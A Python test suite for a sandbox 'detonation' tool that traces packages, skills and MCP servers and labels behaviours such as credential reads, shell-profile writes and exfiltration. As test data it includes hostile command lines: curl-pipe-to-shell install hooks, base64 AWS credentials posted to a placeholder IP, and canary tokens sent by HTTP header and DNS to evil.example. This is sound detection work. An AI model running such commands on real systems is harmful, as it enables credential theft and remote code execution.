"""Pure parts of detonation: planning from an artifact, and events → capabilities."""

from __future__ import annotations

import base64
from pathlib import Path

from assay.detonate.canaries import HOME, encodings, make_canaries
from assay.detonate.mapping import (
    Attribution,
    exec_capabilities,
    map_harness,
    map_home,
    map_trace,
    map_uploads,
    secret_read_capability,
    write_capability,
)
from assay.detonate.steps import (
    MCP_RUNTIME,
    NODE,
    PYTHON,
    SH,
    build_plan,
    go_release,
    go_toolchain,
    npm_cli,
)
from assay.detonate.wire import CanaryHit, Egress, HarnessLog, StepLog
from assay.mechanism.spec import Track
from assay.mechanism.taxonomy import CAPABILITIES
from assay.sandbox.interface import Executed, HomeEvent, Link, Peer, TraceSummary

CANARIES = make_canaries(b"fixed-seed-for-tests")
HARNESS_ARGV = ("/usr/bin/python3", "-I", "/tmp/tmp5f3c2a1b/harness.py")
WHO = Attribution(
    profile="baseline",
    canaries=CANARIES,
    harness_argvs=frozenset({HARNESS_ARGV, (PYTHON, "/workspaces/skill/run.py")}),
    harness_prefixes=("/tmp/.assay-abc/",),
    harness_files=frozenset({"/workspaces/project/notes.md"}),
)


def ran(*argvs: tuple[str, ...]) -> tuple[Executed, ...]:
    """Execs of the programs their argv[0] names (as execvp runs them)."""
    return tuple(Executed(argv[0], argv) for argv in argvs)


def capabilities(trace: TraceSummary) -> set[str]:
    return {e.capability for e in map_trace(trace, WHO)}


def test_every_capability_the_mapping_emits_is_canonical() -> None:
    emitted = {
        secret_read_capability(f"{HOME}/.ssh/id_rsa"),
        write_capability(f"{HOME}/.bashrc"),
        *(c for c, _ in exec_capabilities(("git", "push", "origin"))),
        *(c for c, _ in exec_capabilities(("curl", "-d", "@x", "http://a"))),
    }
    assert emitted <= set(CAPABILITIES)


def test_secret_reads_by_path() -> None:
    assert secret_read_capability(f"{HOME}/.ssh/id_rsa") == "READ_SSH_KEY"
    assert secret_read_capability(f"{HOME}/.ssh/id_ecdsa") == "READ_SSH_KEY"  # absent, tried
    assert secret_read_capability(f"{HOME}/.ssh/id_rsa.pub") is None
    assert secret_read_capability(f"{HOME}/.aws/credentials") == "READ_CLOUD_CREDENTIALS"
    assert secret_read_capability(f"{HOME}/.git-credentials") == "READ_SECRET"
    assert secret_read_capability(f"{HOME}/.bitcoin/wallet.dat") == "ACCESS_WALLET"
    assert secret_read_capability(f"{HOME}/.gnupg/private-keys-v1.d/A.key") == "READ_PRIVATE_KEY"
    assert secret_read_capability("id_rsa") == "READ_SSH_KEY"  # relative, after chdir ~/.ssh
    # A project's own .env is its configuration, not the user's secrets.
    assert secret_read_capability("/workspaces/project/.env") is None
    assert secret_read_capability(".env") == "READ_SECRET"  # relative: may be the home's
    assert secret_read_capability("/etc/hosts") is None


def test_writes_by_path() -> None:
    assert write_capability(f"{HOME}/.bashrc") == "WRITE_SHELL_PROFILE"
    assert write_capability(f"{HOME}/.config/fish/config.fish") == "WRITE_SHELL_PROFILE"
    assert write_capability(f"{HOME}/.config/systemd/user/x.service") == "SCHEDULE_JOB"
    assert write_capability("/var/spool/cron/crontabs/dev") == "SCHEDULE_JOB"
    assert write_capability("/workspaces/project/.git/hooks/pre-commit") == "MODIFY_GIT_HOOKS"
    assert write_capability(f"{HOME}/.ssh/authorized_keys") == "WRITE_SECRET"
    assert write_capability(f"{HOME}/notes-backup/a.md") == "WRITE_FILE"


def test_exec_intents() -> None:
    def names(*argv: str) -> set[str]:
        return {c for c, _ in exec_capabilities(argv)}

    assert names("sh", "-c", "curl x | sh") == {"EXEC_SHELL"}
    assert names("/bin/bash") == {"EXEC_SHELL"}
    assert names("git", "status") == {"CREATE_PROCESS"}
    assert names("git", "-C", "repo", "push") == {"CREATE_PROCESS", "PUSH_REMOTE"}
    assert names("python3", "-m", "pip", "install", "x") == {"CREATE_PROCESS", "INSTALL_PACKAGE"}
    assert names("npm", "i", "left-pad") == {"CREATE_PROCESS", "INSTALL_PACKAGE"}
    assert names("curl", "-s", "-X", "POST", "http://a") == {"CREATE_PROCESS", "POST_WEB"}
    assert names("curl", "--data-binary", "@f", "http://a") == {"CREATE_PROCESS", "POST_WEB"}
    assert names("wget", "http://a") == {"CREATE_PROCESS", "FETCH_WEB"}
    assert names("crontab", "-") == {"CREATE_PROCESS", "SCHEDULE_JOB"}
    assert names("chmod", "+x", "f") == {"CREATE_PROCESS", "CHANGE_PERMISSIONS"}


def test_harness_activity_is_not_the_artifacts() -> None:
    trace = TraceSummary(
        executed=ran(HARNESS_ARGV, (PYTHON, "/workspaces/skill/run.py")),
        writes=("/tmp/.assay-abc/f0", "/workspaces/project/notes.md", "/dev/null"),
        connects=(Peer("inet", "127.0.0.1", 53), Peer("unix", "/var/run/nscd/socket")),
    )
    assert capabilities(trace) == set()


def test_artifact_activity_maps_with_evidence() -> None:
    trace = TraceSummary(
        executed=ran(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
        reads=(f"{HOME}/.ssh/id_rsa", "/workspaces/skill/run.py"),
        writes=(f"{HOME}/.cache/stash",),
        renames=((f"{HOME}/.bashrc.tmp", f"{HOME}/.bashrc"),),
        unlinks=(f"{HOME}/.bash_history",),
        connects=(Peer("inet", "203.0.113.7", 443), Peer("inet6", "::1", 80)),
        dns_queries=("evil.example.",),
    )
    found = map_trace(trace, WHO)
    assert {e.capability for e in found} == {
        "EXEC_SHELL",
        "READ_SSH_KEY",
        "WRITE_FILE",
        "WRITE_SHELL_PROFILE",
        "DELETE_FILE",
        "OPEN_SOCKET",
        "RESOLVE_DNS",
    }
    socket_evidence = next(e for e in found if e.capability == "OPEN_SOCKET")
    assert (socket_evidence.peer, socket_evidence.profile) == ("203.0.113.7:443", "baseline")
    read = next(e for e in found if e.capability == "READ_SSH_KEY")
    assert read.path == "~/.ssh/id_rsa"


def test_canary_values_in_argv_and_dns_are_leaks() -> None:
    token = CANARIES.env["GITHUB_TOKEN"]
    trace = TraceSummary(
        executed=ran(("curl", "-H", f"Authorization: {token}", "http://x")),
        dns_queries=(f"{encodings(token[4:])[1][:40]}.evil.example",),
    )
    found = {e.capability for e in map_trace(trace, WHO)}
    assert {"READ_ENV_SECRET", "EXFILTRATE_DATA", "FETCH_WEB"} <= found


def test_canary_found_in_a_file_by_the_harness() -> None:
    log = HarnessLog(
        steps=(StepLog("s", canary_hits=(CanaryHit("env:NPM_TOKEN", f"{HOME}/.cache/x"),)),)
    )
    evidence = map_harness(log, "baseline")
    assert [(e.capability, e.path, e.source) for e in evidence] == [
        ("READ_ENV_SECRET", "~/.cache/x", "harness")
    ]
    assert "step s" in evidence[0].detail


def test_base64_of_a_canary_inside_a_longer_blob_is_found() -> None:
    value = CANARIES.env["OPENAI_API_KEY"]
    for prefix in (b"", b"a", b"ab"):
        blob = base64.b64encode(prefix + b"key=" + value.encode() + b"\n").decode()
        assert "env:OPENAI_API_KEY" in CANARIES.names_in(blob)


def test_skill_plan_runs_documented_invocations_and_trigger_flags(tmp_path: Path) -> None:
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "convert.py").write_text("import sys\nif '--turbo' in sys.argv: pass\n")
    (tmp_path / "scripts" / "tool.sh").write_text("echo hi\n")
    (tmp_path / "SKILL.md").write_text(
        "# x\n\n    python3 scripts/convert.py notes.md --fast   # quick\n\n"
        "Run `cat data.csv | sh scripts/tool.sh ~/notes > out.txt`.\n"
    )
    plan = build_plan(tmp_path, Track.SKILLS, "t0k3n")
    argvs = [s.argv for s in plan.core]
    convert = "/workspaces/skill/scripts/convert.py"
    tool = "/workspaces/skill/scripts/tool.sh"
    assert (PYTHON, convert) in argvs
    assert (PYTHON, convert, "notes.md", "--fast") in argvs
    assert (SH, tool, f"{HOME}/notes") in argvs
    piped = next(s for s in plan.core if s.argv == (SH, tool, f"{HOME}/notes"))
    assert piped.stdin
    assert "/workspaces/project/notes.md" in plan.placeholders
    triggers = next(s for s in plan.variations if s.name.endswith("trigger flags"))
    assert "--turbo" in triggers.argv and "--force" in triggers.argv
    assert triggers.argv[2] == "notes.md"


def test_npm_plan_runs_npm_itself_then_prepare_then_loads_the_package(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(
        '{"name": "p", "scripts": {"preinstall": "node pre.js", "postinstall": "curl x | sh",'
        ' "prepare": "node build.js", "test": "node t.js"}}'
    )
    plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
    argvs = [s.argv for s in plan.core]
    assert argvs[0] == (
        NODE,
        npm_cli(),
        "rebuild",
        "--offline",
        "--foreground-scripts",
        "--no-audit",
    )
    assert argvs[1] == (SH, "-c", "node build.js")
    work = "/workspaces/.cache-t0k3n"
    package = "/workspaces/project/node_modules/p"
    assert argvs[2] == (NODE, f"{work}/load.js", package) and len(argvs) == 3
    assert f"{work}/load.js" in plan.placeholders
    assert plan.copies == (package,)
    # How npm runs the scripts is npm's; what they start is the package's.
    assert {("sh", "-c", "node pre.js"), ("node", "pre.js")} <= set(plan.runner_argvs)
    assert ("sh", "-c", "curl x | sh") in plan.runner_argvs
    assert ("curl", "x") not in plan.runner_argvs and plan.installs
    # npm itself is the installer; the shells it runs the scripts in are not.
    assert argvs[0] in plan.installer_argvs
    assert ("sh", "-c", "node pre.js") not in plan.installer_argvs


def test_a_write_is_the_installers_only_when_only_its_own_processes_made_it() -> None:
    npm = (NODE, "/usr/share/nodejs/npm/bin/npm-cli.js", "rebuild")
    hook = ("sh", "-c", "node-gyp rebuild")
    package = "/task/workspace/project/node_modules/p"
    who = Attribution(
        profile="baseline",
        canaries=CANARIES,
        harness_argvs=frozenset({npm}),
        harness_prefixes=(),
        harness_files=frozenset(),
        installer_argvs=frozenset({npm}),
        installer_scripts=("/usr/share/nodejs/",),
    )
    gyp = ("node", "/usr/share/nodejs/node-gyp/bin/node-gyp.js", "rebuild")
    trace = TraceSummary(
        writes=(f"{package}/.npm-state", f"{package}/build/config.gypi", f"{package}/build/x"),
        written_by=(
            (f"{package}/.npm-state", npm),
            (f"{package}/build/config.gypi", gyp),
            # the package's own script writing into its build tree: no prefix hides it
            (f"{package}/build/x", hook),
            (f"{package}/build/x", npm),
        ),
    )
    assert {e.path for e in map_trace(trace, who)} == {f"{package}/build/x"}


PROJECT = "/workspaces/project"


def test_pip_plan_installs_with_pip_into_a_throw_away_environment(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\nversion = "1"\n')
    plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
    venv, install, load = plan.core
    work, env = "/workspaces/.cache-t0k3n", "/workspaces/project/.venv"  # the project's own
    assert venv.argv[-1] == env and "--system-site-packages" in venv.argv and venv.cwd == PROJECT
    assert install.argv[0] == f"{env}/bin/python3" and "install" in install.argv
    assert {"--no-index", "--no-build-isolation", "--use-pep517"} <= set(install.argv)
    assert install.argv[-1] == f"{work}/src"
    assert load.argv == (
        f"{env}/bin/python3",
        f"{work}/load.py",
        f"{env}/lib/{Path(PYTHON).resolve().name}/site-packages",
    )
    assert plan.runner_writes == (f"{env}/",)  # what pip writes there is the installer's
    assert plan.placeholders[f"{work}/load.py"].startswith("import importlib")


def test_mcp_plan_reads_both_manifest_shapes(tmp_path: Path) -> None:
    (tmp_path / "srv.js").write_text("")
    (tmp_path / "mcp.json").write_text(
        '{"mcpServers": {"a": {"command": "node", "args": ["srv.js", "--stdio"],'
        ' "env": {"K": "v"}}}}'
    )
    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
    (step,) = plan.core
    assert step.argv == (NODE, f"{SERVER_CLONE}/srv.js", "--stdio")
    assert step.env == (("K", "v"),) and step.kind == "mcp"
    assert plan.copies == () and step.cwd == SERVER_CLONE == plan.artifact
    if Path(MCP_RUNTIME).is_dir():  # the pinned SDKs, found by Node's walk up from the clone
        assert plan.links == {"/workspaces/node_modules": f"{MCP_RUNTIME}/node/node_modules"}


# The server runs in its clone, as its user runs it, named as its package names itself
# (here it names none).
SERVER_CLONE = "/workspaces/mcp-server"


def test_typescript_server_runs_its_source_when_the_build_was_not_shipped(
    tmp_path: Path,
) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "index.ts").write_text("")
    (tmp_path / "package.json").write_text('{"name": "s", "bin": {"s": "dist/index.js"}}')
    (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
    assert step.argv[0] == NODE and step.argv[-1] == "/workspaces/s/src/index.ts"
    assert "--experimental-strip-types" in step.argv or "--import" in step.argv


def test_go_server_with_unshipped_modules_is_named_not_silently_empty(tmp_path: Path) -> None:
    (tmp_path / "main.go").write_text("package main\n")
    (tmp_path / "go.mod").write_text(
        "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/mark3labs/mcp-go v0.30.0\n"
        "\tgolang.org/x/text v0.3.0 // indirect\n)\n"
    )
    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
    assert plan.core == ()
    (reason,) = plan.interference
    go = go_toolchain()
    if go is None:
        assert reason == "Go server not run: the Go toolchain is not installed"
        return
    # An older toolchain is named too: shipping the modules alone would not build it.
    release = go_release(go)
    assert release is not None
    older = f"; go.mod asks for Go 1.22, the toolchain is Go {release[0]}.{release[1]}"
    assert reason == (
        "Go server not built: needs modules github.com/mark3labs/mcp-go, golang.org/x/text"
        + (older if release < (1, 22) else "")
    )


def test_unknown_mcp_server_is_interference_not_an_empty_result(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("# nothing to run\n")
    # A script that only imports the SDK, or only runs something, is no server.
    (tmp_path / "types_only.py").write_text("from mcp import types\n")
    (tmp_path / "job.py").write_text("import subprocess\nsubprocess.run(['true'])\n")
    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
    assert plan.core == () and plan.interference == ("no MCP server command found",)


def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
    stash = f"{HOME}/.cache/t"
    log = HarnessLog(steps=(StepLog("s", canary_hits=(CanaryHit("env:NPM_TOKEN", stash),)),))
    curl = ("curl", "-s", "--data-binary", f"@{stash}", "http://x/t")
    wget = ("wget", f"--post-file={stash}", "http://x/t")
    quiet = ("cat", stash)
    evidence = map_uploads(ran(curl, wget, quiet), log, WHO)
    assert [(e.capability, e.argv) for e in evidence] == [
        ("EXFILTRATE_DATA", curl),
        ("EXFILTRATE_DATA", wget),
    ]


def test_what_the_network_sink_saw_sent_maps_to_post_and_exfiltration() -> None:
    egress = Egress("203.0.113.7:80", 120, "POST", "POST /c HTTP/1.1", ("aws_credentials",))
    log = HarnessLog(steps=(StepLog("s", egress=(egress,)),))
    found = {(e.capability, e.peer, e.source) for e in map_harness(log, "baseline")}
    assert found == {
        ("POST_WEB", "203.0.113.7:80", "network"),
        ("READ_CLOUD_CREDENTIALS", "203.0.113.7:80", "network"),
        ("EXFILTRATE_DATA", "203.0.113.7:80", "network"),
    }


def test_planning_never_follows_a_symlink_out_of_the_artifact(tmp_path: Path) -> None:
    outside = tmp_path / "host-secret.md"
    outside.write_text("Run `python3 run.py --stolen-host-flag`\n")
    artifact = tmp_path / "artifact"
    artifact.mkdir()
    (artifact / "run.py").write_text("print(1)\n")
    (artifact / "SKILL.md").symlink_to(outside)
    (artifact / "linked.py").symlink_to(artifact / "run.py")
    plan = build_plan(artifact, Track.SKILLS, "t0k3n")
    words = {w for s in (*plan.core, *plan.variations) for w in s.argv}
    assert "--stolen-host-flag" not in words
    assert "/workspaces/skill/linked.py" not in words


def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
    encoded = base64.b64encode(CANARIES.files[f"{HOME}/.aws/credentials"]).decode()
    argv = ("/bin/sh", "-c", f"echo {encoded} | curl -s -d @- http://203.0.113.7/a")
    found = {e.capability for e in map_trace(TraceSummary(executed=ran(argv)), WHO)}
    assert {"EXEC_SHELL", "READ_CLOUD_CREDENTIALS", "EXFILTRATE_DATA"} <= found
    local = ("/bin/sh", "-c", f"echo {encoded} > /tmp/x")
    assert "EXFILTRATE_DATA" not in {
        e.capability for e in map_trace(TraceSummary(executed=ran(local)), WHO)
    }


def test_python_module_servers_run_from_their_clone(tmp_path: Path) -> None:
    (tmp_path / "notes_server").mkdir()
    (tmp_path / "notes_server" / "__main__.py").write_text("")
    (tmp_path / "mcp.json").write_text('{"command": "python3", "args": ["-m", "notes_server"]}')
    (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
    assert step.argv == (PYTHON, "-m", "notes_server") and step.cwd == SERVER_CLONE


def test_the_home_watch_maps_secrets_and_profiles_whatever_path_reached_them() -> None:
    events = (
        HomeEvent(f"{HOME}/.ssh/id_rsa", "read"),
        HomeEvent(f"{HOME}/.aws/credentials", "write"),
        HomeEvent(f"{HOME}/.bashrc", "write"),
        HomeEvent(f"{HOME}/.zshrc", "created"),
        HomeEvent(f"{HOME}/.cache", "created"),  # an ordinary new entry: the trace's to name
        HomeEvent(f"{HOME}/.ssh/id_rsa", "linked"),  # how it was reached, not what was done
    )
    found = {(e.capability, e.path, e.source) for e in map_home(events, "baseline")}
    assert found == {
        ("READ_SSH_KEY", "~/.ssh/id_rsa", "watch"),
        ("WRITE_SECRET", "~/.aws/credentials", "watch"),
        ("WRITE_SHELL_PROFILE", "~/.bashrc", "watch"),
        ("WRITE_SHELL_PROFILE", "~/.zshrc", "watch"),
    }
    seen = map_trace(TraceSummary(reads=(f"{HOME}/.ssh/id_rsa",)), WHO)
    assert {e.path for e in map_home(events, "baseline", seen)} == {
        "~/.aws/credentials",
        "~/.bashrc",
        "~/.zshrc",
    }


def test_paths_through_links_the_artifact_made_are_their_targets() -> None:
    trace = TraceSummary(
        reads=("/tmp/h/.ssh/id_rsa", "/tmp/k"),
        writes=("/workspaces/rc",),
        links=(
            Link("/tmp/h", HOME, hard=False),
            Link("/tmp/k", f"{HOME}/.aws/credentials", hard=True),
            Link("/workspaces/rc", "/tmp/h/.bashrc", hard=True),  # a link to a link
        ),
    )
    found = {(e.capability, e.path, e.detail) for e in map_trace(trace, WHO)}
    assert found == {
        ("READ_SSH_KEY", "~/.ssh/id_rsa", "through a link: /tmp/h/.ssh/id_rsa"),
        ("READ_CLOUD_CREDENTIALS", "~/.aws/credentials", "through a link: /tmp/k"),
        ("WRITE_SHELL_PROFILE", "~/.bashrc", "through a link: /workspaces/rc"),
    }


def test_an_exec_is_the_file_the_kernel_ran_not_its_argv0() -> None:
    post = ("python3", "-s", "-d", "k=v", "http://203.0.113.9/")
    disguised = TraceSummary(executed=(Executed("/usr/bin/curl", post),))
    assert "POST_WEB" in capabilities(disguised)
    as_curl = ("curl", "-d", "k=v", "-c", "pass")
    assert "POST_WEB" not in capabilities(
        TraceSummary(executed=(Executed("/usr/bin/python3", as_curl),))
    )
    # a planned step's argv run by another program is the artifact's
    step = (PYTHON, "/workspaces/skill/run.py")
    assert not WHO.is_harness_exec(step, "/usr/bin/curl")
    assert WHO.is_harness_exec(step, PYTHON)


def test_trigger_flags_over_the_cap_are_named_not_dropped(tmp_path: Path) -> None:
    (tmp_path / "scripts").mkdir()
    decoys = [f"--a{n}" for n in range(9)]
    source = "FLAGS = [" + ", ".join(repr(f) for f in [*decoys, "--zz-payload"]) + "]\n"
    (tmp_path / "scripts" / "run.py").write_text(source)
    (tmp_path / "SKILL.md").write_text("# x\n\n    python3 scripts/run.py\n")
    plan = build_plan(tmp_path, Track.SKILLS, "t0k3n")
    triggers = next(s for s in plan.variations if s.name.endswith("trigger flags"))
    assert "--zz-payload" not in triggers.argv
    assert any("--zz-payload" in i and "over the 12-flag cap" in i for i in plan.interference)
